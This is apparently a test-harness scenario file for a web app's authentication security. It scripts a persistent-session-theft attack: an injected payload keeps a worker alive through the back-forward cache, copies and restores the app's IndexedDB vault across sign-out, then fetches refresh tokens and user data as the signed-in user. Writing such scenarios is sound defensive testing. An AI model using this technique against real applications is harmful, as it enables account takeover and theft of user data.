import { setTimeout as delay } from "node:timers/promises";
import { attack } from "../attack.js";

const frozenKeeper = attack({
  name: "freezes a keeper during the sign-out and restores the session hint",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  needs: "stop a worker",
  async payload(it) {
    const { phase } = window as { phase?: string };
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const send = async (method: string, url: string) => {
      const response = await fetch(url, { method, signal: AbortSignal.timeout(6_000) }).catch(
        () => undefined,
      );
      return (await response?.text().catch(() => "")) ?? "";
    };
    const values = async (mode: IDBTransactionMode) => {
      const database = await done(indexedDB.open("strongroom"));
      return database.transaction("values", mode).objectStore("values");
    };
    Object.assign(window, { phase: "back" });
    if (phase === "before the sign-out") {
      // A page can start any number of keepers. This one enters the back-forward cache with the page.
      new Worker(it.scriptUrl("/vault-worker.js"));
      const keepers = async () => JSON.parse(await send("GET", "/auth/session")).worker?.keepers ?? 0;
      for (let tries = 0; tries < 60 && (await keepers()) < 2; tries++) await it.pause(50);
      const store = await values("readonly");
      localStorage.rows = JSON.stringify([await done(store.getAllKeys()), await done(store.getAll())]);
      return;
    }
    if (phase === "after the sign-out") {
      const [keys, rows] = JSON.parse(localStorage.rows) as [string[], unknown[]];
      const store = await values("readwrite");
      for (const [index, row] of rows.entries()) await done(store.put(row, keys[index]));
      return;
    }
    const urls = [`${it.apiUrl}me`, `${it.ownApiUrl}me`, `${it.apiUrl}me?again`];
    it.steal(...(await Promise.all(urls.map((url) => send("GET", url)))));
    it.steal(await send("POST", "/auth/refresh"), await send("GET", `${it.apiUrl}me`));
  },
  async play(stage) {
    const { browser, site } = stage;
    const run = async (phase: string) => {
      await browser.evaluate((phase) => void Object.assign(window, { phase }), phase);
      await stage.inject();
    };
    await stage.openSignedIn();
    await stage.waitForKeeper();
    await run("before the sign-out");
    const attackers = await browser.currentTab();
    await browser.goto(stage.page("<!doctype html><title>Elsewhere</title>"));
    await browser.newTab(`${site.origin}/`);
    await stage.waitForState("signed-in");
    await stage.signOut();
    stage.markRequests();
    await run("after the sign-out");
    await stage.closeThisTab(attackers);
    await browser.stopWorkers();
    await browser.driver.navigate().back();
    // The page comes from the back-forward cache or is reloaded. In the latter case the app may navigate to a silent
    // sign-in at any time.
    await browser.waitFor("the attacker's page", () =>
      browser.evaluate((name) => {
        if (typeof attacker !== "object") return false;
        setTimeout(() => void attacker.run(name), 0);
        return true;
      }, frozenKeeper.name),
    );
    await delay(6_000);
  },
  gain: async (stage) => stage.requestAsTheUser(),
});

export default frozenKeeper;
